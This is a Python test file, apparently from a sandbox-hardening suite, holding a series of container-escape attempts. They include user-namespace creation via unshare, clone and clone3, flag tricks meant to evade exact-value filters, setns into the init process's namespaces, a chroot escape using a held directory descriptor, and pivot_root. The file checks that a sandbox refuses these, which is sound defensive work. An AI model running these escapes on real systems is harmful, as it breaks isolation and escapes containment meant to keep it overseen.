"""New namespaces, foreign namespaces, other roots (S14, CVE-2022-0492's first step)."""

import ctypes
import os
import signal
import struct

from hostile import Refused, attack, attempt, family, in_child, main, outside, past_check, read_token, syscall

NEW_USER = 0x10000000
OTHERS = {
    "mnt": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000,
    "pid": 0x20000000, "net": 0x40000000, "time": 0x80,
}  # fmt: skip


def has_capabilities():
    status = open("/proc/self/status").read()
    return int(status.split("CapEff:")[1].split()[0], 16) != 0


def gained():
    if not has_capabilities():
        raise Refused("no capability was gained")
    return "capabilities"


@attack
def user_by_unshare():
    def enter():
        with attempt("unshare"):
            syscall(272, NEW_USER)
        return gained()

    return in_child(enter)


def of_cloned(clone):
    """What the child of a raw clone tells by its exit code."""
    with attempt("clone"):
        pid = clone()
        if pid == 0:
            os._exit(77 if has_capabilities() else 1)
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) != 77:
        raise Refused("no capability was gained")
    return "capabilities"


@attack
def user_by_clone():
    return of_cloned(lambda: syscall(56, NEW_USER | signal.SIGCHLD, 0, 0, 0, 0))


@attack
def user_by_clone3():
    arguments = struct.pack("<11Q", NEW_USER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    return of_cloned(lambda: syscall(435, ctypes.create_string_buffer(arguments), len(arguments)))


@attack
def user_by_vfork_flags():
    """Flags that a filter of exact values would not know."""
    flags = NEW_USER | 0x4000 | signal.SIGCHLD
    return of_cloned(lambda: syscall(56, flags, 0, 0, 0, 0))


def own_namespaces():
    """Their links; a PID namespace without a process yet has none."""
    links = {}
    for name in os.listdir("/proc/self/ns"):
        try:
            links[name] = os.readlink(f"/proc/self/ns/{name}")
        except FileNotFoundError:
            links[name] = "empty"
    return links


@family("namespace", OTHERS)
def other(flag):
    def enter():
        before = own_namespaces()
        with attempt("unshare"):
            syscall(272, flag)
        if own_namespaces() == before:
            raise Refused("same namespaces")
        return "entered"

    return in_child(enter)


@attack
def setns_own():
    """Even into the own namespace it takes rights."""

    def enter():
        namespace = os.open("/proc/self/ns/net", os.O_RDONLY)
        with attempt("setns"):
            syscall(308, namespace, 0)
        return "joined"

    return in_child(enter)


@attack
def setns_of_init():
    def enter():
        for pid in (1, os.getppid()):
            with attempt("open"):
                namespace = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            with attempt("setns"):
                syscall(308, namespace, 0)
        return "joined"

    return in_child(enter)


@attack
def setns_by_pidfd():
    def enter():
        with attempt("pidfd_open"):
            process = os.pidfd_open(1)
        with attempt("setns"):
            syscall(308, process, 0x20000)
        return "joined"

    return in_child(enter)


@attack
def chroot_escape():
    """The classic: a root below, a descriptor above it, and as many `..` as it takes."""

    def escape():
        place = f"/tmp/root-{os.getpid()}"
        os.mkdir(place)
        above = os.open("/", os.O_RDONLY)
        with attempt("chroot"):
            os.chroot(place)
        os.fchdir(above)
        with attempt("open"):
            return read_token("../" * 40 + outside().lstrip("/"))

    return in_child(escape)


@attack
def pivot_root():
    with attempt("pivot_root"):
        return past_check(155, b"/tmp", b"/tmp")


main()
